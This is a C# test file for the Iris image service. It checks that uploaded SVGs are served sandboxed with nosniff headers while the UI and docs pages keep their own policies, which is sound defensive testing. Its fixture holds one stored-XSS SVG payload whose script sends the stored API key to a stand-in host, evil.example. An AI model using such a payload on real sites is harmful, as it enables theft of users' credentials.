using System.Net;
using System.Net.Http.Json;
using System.Text;
using System.Text.Json;
using Iris.Http;
using Iris.Tests.Support;

namespace Iris.Tests.Http;

/// <summary>
/// An SVG with a script, added to the library and opened from its URL, must not run as a page of Iris's origin; the
/// web UI keeps its own policy and the API docs page still runs.
/// </summary>
public sealed class SecurityHeadersTests : IDisposable
{
    private readonly TempDirectory _data = new();

    public void Dispose() => _data.Dispose();

    [Fact]
    public async Task A_library_svg_is_served_sandboxed_and_every_answer_is_nosniff()
    {
        await using var host = await IrisTestHost.StartAsync(new Dictionary<string, string?>
        {
            ["Library:IndexTasks"] = "embed",
            ["Jobs:Workers"] = "0",
            ["Storage:Directory"] = _data.File("images"),
            ["Transforms:CacheDirectory"] = _data.File("transform-cache"),
            ["Models:LoadOnStartup"] = "false",
        });
        const string svg = """<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>fetch('//evil.example/?k='+localStorage['iris.apiKey'])</script><rect width="10" height="10" fill="red"/></svg>""";
        using var form = new MultipartFormDataContent { { new ByteArrayContent(Encoding.UTF8.GetBytes(svg)), "image", "x.svg" } };
        using var added = await host.Client.PostAsync("/v1/images", form);
        Assert.Equal(HttpStatusCode.Accepted, added.StatusCode);
        var id = (await added.Content.ReadFromJsonAsync<JsonElement>()).GetProperty("images")[0].GetProperty("image_id").GetString()!;

        using var image = await host.Client.GetAsync($"/images/{id}");
        Assert.Equal(HttpStatusCode.OK, image.StatusCode);
        Assert.Equal("image/svg+xml", image.Content.Headers.ContentType?.MediaType);
        Assert.Equal(SecurityHeaders.SandboxPolicy, string.Join(";", image.Headers.GetValues("Content-Security-Policy")));
        Assert.Contains("nosniff", image.Headers.GetValues("X-Content-Type-Options"));

        using var problem = await host.Client.GetAsync("/v1/images/0123456789abcdef0123456789abcdef");
        Assert.Contains("nosniff", problem.Headers.GetValues("X-Content-Type-Options"));
        Assert.Contains("sandbox", string.Join(";", problem.Headers.GetValues("Content-Security-Policy")));

        using var ui = await host.Client.GetAsync("/ui/");
        Assert.Equal(HttpStatusCode.OK, ui.StatusCode);
        Assert.DoesNotContain("sandbox", string.Join(";", ui.Headers.GetValues("Content-Security-Policy")));
        using var docs = await host.Client.GetAsync("/docs");
        Assert.Equal(HttpStatusCode.OK, docs.StatusCode);
        Assert.False(docs.Headers.Contains("Content-Security-Policy"));
    }
}
